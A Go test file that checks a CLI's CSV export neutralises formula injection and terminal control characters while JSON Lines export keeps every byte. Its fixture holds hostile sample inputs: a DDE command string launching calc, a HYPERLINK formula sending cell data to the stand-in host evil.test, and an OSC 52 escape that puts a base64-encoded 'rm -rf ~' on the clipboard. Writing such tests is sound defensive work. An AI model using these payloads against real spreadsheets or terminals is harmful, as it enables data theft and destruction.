package cli

import (
	"encoding/csv"
	"path/filepath"
	"strings"
	"testing"
)

// Hostile text in exports (issue 12): a CSV opened in a spreadsheet must not run a
// formula nor carry terminal controls; the JSON Lines export stays byte for byte.

const hostileLines = `{"channel":"x","account":"@acme","id":"h1","kind":"dm","author":{"id":"66","handle":"@evil","name":"+1 cmd|' /C calc'!A0"},"text":"=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")","created_at":"2026-11-20T10:00:00Z"}
{"channel":"x","account":"@acme","id":"h2","kind":"dm","author":{"id":"67","handle":"-2+3","name":"\t=1+1"},"text":"\u001b]52;c;cm0gLXJmIH4=\u0007hi\u0000 there\r\nline two","created_at":"2026-11-20T10:01:00Z"}
`

func TestCSVExportNeutralizesFormulasAndControls(t *testing.T) {
	db := filepath.Join(t.TempDir(), "t.db")
	if _, _, err := triage(t, db, hostileLines, "import", "-"); err != nil {
		t.Fatal(err)
	}
	out, _, err := triage(t, db, "", "export", "--format", "csv")
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("CSV does not parse: %v\n%s", err, out)
	}
	if len(rows) != 3 {
		t.Fatalf("%d rows, want a header and 2", len(rows))
	}
	for _, row := range rows[1:] {
		for i, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("column %s = %q: a spreadsheet runs it as a formula", csvHeader[i], cell)
			}
			for _, r := range cell {
				if (r < 0x20 && r != '\n' && r != '\r' && r != '\t') || r == 0x7f || (r >= 0x80 && r <= 0x9f) {
					t.Errorf("column %s = %q carries control character %U", csvHeader[i], cell, r)
				}
			}
		}
	}
	if got := rows[1][9]; got != `'=HYPERLINK("http://evil.test/?"&A1,"click")` {
		t.Errorf("text = %q, want the formula with a leading '", got)
	}
	if got := rows[2][7]; got != "'-2+3" {
		t.Errorf("handle = %q, want '-2+3", got)
	}

	// JSON Lines keeps every byte.
	recs := byID(exported(t, db))
	if got := recs["h2"].Text; got != "\x1b]52;c;cm0gLXJmIH4=\x07hi\x00 there\r\nline two" {
		t.Errorf("JSON Lines text = %q, want it exact", got)
	}
	if got := recs["h1"].Author.Name; got != "+1 cmd|' /C calc'!A0" {
		t.Errorf("JSON Lines name = %q, want it exact", got)
	}
}
